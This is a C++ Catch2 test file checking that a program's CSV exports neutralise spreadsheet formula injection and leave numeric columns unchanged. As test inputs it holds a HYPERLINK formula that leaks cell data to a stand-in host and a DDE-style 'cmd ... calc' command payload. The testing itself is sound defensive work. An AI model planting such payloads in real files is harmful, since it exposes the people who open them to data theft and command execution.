// SPDX-License-Identifier: GPL-3.0-or-later
// CSV formula injection: a cell from the session that starts with '=', '+', '-', '@', a
// tab or a carriage return gets a leading "'" in every CSV table (and in the comparison
// CSV) unless raw output is asked for; numbers the program writes are never changed.
#include "csvparse.h"
#include "namedsession.h"

#include "nwk/core/comparison.h"
#include "nwk/core/dataexport.h"
#include "nwk/core/sessionio.h"

#include <catch2/catch.hpp>

using namespace nwk;
using namespace nwk::testdata;
using nwk::testcsv::parseCsv;
using nwk::testcsv::Parsed;

namespace {

const QStringList kDangerous{QStringLiteral("="), QStringLiteral("+"),  QStringLiteral("-"),
                             QStringLiteral("@"), QStringLiteral("\t"), QStringLiteral("\r")};

/// Columns holding numbers the program writes (left as they are).
const QStringList kNumberColumns{QStringLiteral("participants"),
                                 QStringLiteral("partners"),
                                 QStringLiteral("placedPartners"),
                                 QStringLiteral("links"),
                                 QStringLiteral("schoolLinks"),
                                 QStringLiteral("missingPartners"),
                                 QStringLiteral("ring"),
                                 QStringLiteral("distance"),
                                 QStringLiteral("angle"),
                                 QStringLiteral("x"),
                                 QStringLiteral("y"),
                                 QStringLiteral("desiredDistance"),
                                 QStringLiteral("desiredAngle"),
                                 QStringLiteral("marks"),
                                 QStringLiteral("count"),
                                 QStringLiteral("addedMs"),
                                 QStringLiteral("joinedMs"),
                                 QStringLiteral("leftMs"),
                                 QStringLiteral("named"),
                                 QStringLiteral("quotes"),
                                 QStringLiteral("atMs")};

bool formulaLike(const QString &cell)
{
    return !cell.isEmpty() && QStringLiteral("=+-@\t\r").contains(cell.front());
}

struct Cells {
    int formulas = 0;    ///< text cells a spreadsheet would run
    int neutralised = 0; ///< text cells "'" + a dangerous character
    QStringList examples;
};

/// The text cells of a CSV table (not its number columns); `numbersTable`: the ego
/// table, whose "participants", "partners", "links" are counts.
Cells textCells(const QByteArray &csv, bool egoTable)
{
    const Parsed parsed = parseCsv(csv);
    INFO(parsed.error.toStdString());
    REQUIRE(parsed.error.isEmpty());
    REQUIRE_FALSE(parsed.records.empty());
    const QStringList header = parsed.records.front();
    Cells c;
    for (std::size_t r = 1; r < parsed.records.size(); ++r)
        for (qsizetype i = 0; i < header.size(); ++i) {
            const QString &column = header.at(i);
            const bool counts = egoTable || (column != QLatin1String("participants") &&
                                             column != QLatin1String("partners") &&
                                             column != QLatin1String("links"));
            if (kNumberColumns.contains(column) && counts)
                continue;
            const QString cell = parsed.records[r].at(i);
            if (formulaLike(cell)) {
                ++c.formulas;
                c.examples << column + QStringLiteral(": ") + cell.left(40);
            }
            if (cell.size() > 1 && cell.front() == QLatin1Char('\'') && formulaLike(cell.mid(1)))
                ++c.neutralised;
        }
    return c;
}

} // namespace

TEST_CASE("CSV cells starting with a formula character are neutralised in every table",
          "[dataexport][csv][formula]")
{
    for (const QString &lead : kDangerous) {
        // Every text member of the session starts with the character.
        const Session s = namedSession([&](const QString &field) {
            return lead + QStringLiteral("HYPERLINK(\"http://x.example/?\"&A1;\"") + field +
                   QStringLiteral("\")");
        });
        const Deck deck = builtinDeck(QStringLiteral("nl"));
        for (bool anonymise : {false, true}) {
            DataExportOptions o;
            o.deck = &deck;
            o.anonymise = anonymise;
            o.byteOrderMark = true; // what Excel users ask for
            DataExportOptions raw = o;
            raw.rawCsv = true;
            int total = 0;
            for (CsvTable t : allCsvTables()) {
                INFO("lead U+" << int(lead.front().unicode()) << ", anonymise " << anonymise << ", "
                               << csvTableName(t).toStdString());
                const bool ego = t == CsvTable::Ego;
                const Cells safe = textCells(csvTable(s, t, o).mid(3), ego);
                INFO(safe.examples.join(QLatin1Char('\n')).toStdString());
                CHECK(safe.formulas == 0);
                // Every table carries text from the session; labels the export trims
                // (the marks table's) lose a leading tab or CR and need no quote.
                if (!lead.front().isSpace())
                    CHECK(safe.neutralised > 0);
                total += safe.neutralised;
                // Raw: the same cells as typed.
                const Cells asTyped = textCells(csvTable(s, t, raw).mid(3), ego);
                CHECK(asTyped.formulas == safe.neutralised);
                CHECK(asTyped.neutralised == 0);
            }
            CHECK(total > 20);
        }
    }
}

TEST_CASE("CSV neutralising leaves the numbers the program writes alone",
          "[dataexport][csv][formula]")
{
    const Session s = namedSession();
    const Parsed parsed = parseCsv(csvTable(s, CsvTable::Partners, {}));
    REQUIRE(parsed.error.isEmpty());
    const QStringList header = parsed.records.front();
    const qsizetype x = header.indexOf(QStringLiteral("x"));
    const qsizetype y = header.indexOf(QStringLiteral("y"));
    REQUIRE(x >= 0);
    REQUIRE(y >= 0);
    int negative = 0;
    for (std::size_t r = 1; r < parsed.records.size(); ++r)
        for (qsizetype i : {x, y}) {
            const QString cell = parsed.records[r].at(i);
            CHECK_FALSE(cell.startsWith(QLatin1Char('\'')));
            if (cell.startsWith(QLatin1Char('-'))) {
                ++negative;
                bool ok = false;
                cell.toDouble(&ok);
                CHECK(ok);
            }
        }
    CHECK(negative > 0); // the map has partners left of and below the school
}

TEST_CASE("The comparison CSV neutralises school names and labels, not its values",
          "[comparison][csv][formula]")
{
    for (const QString &lead : kDangerous) {
        INFO("lead U+" << int(lead.front().unicode()));
        Session s = newSession();
        s.categories[0].labelNl = lead + QStringLiteral("cmd|' /C calc'!A0");
        const ComparisonTable table =
            compareSessions({NamedSession{lead + QStringLiteral("SUM(1+1)"), s}}, {});
        const Parsed safe = parseCsv(comparisonCsv(table));
        REQUIRE(safe.error.isEmpty());
        CHECK(safe.records.front().at(2) ==
              QStringLiteral("'") + lead + QStringLiteral("SUM(1+1)"));
        int labels = 0;
        for (const QStringList &row : safe.records) {
            CHECK_FALSE(formulaLike(row.at(0)));
            labels += row.at(0) == QStringLiteral("'") + s.categories[0].labelNl ? 1 : 0;
        }
        CHECK(labels > 0);
        const Parsed raw = parseCsv(comparisonCsv(table, true));
        REQUIRE(raw.error.isEmpty());
        CHECK(raw.records.front().at(2) == lead + QStringLiteral("SUM(1+1)"));
    }
}
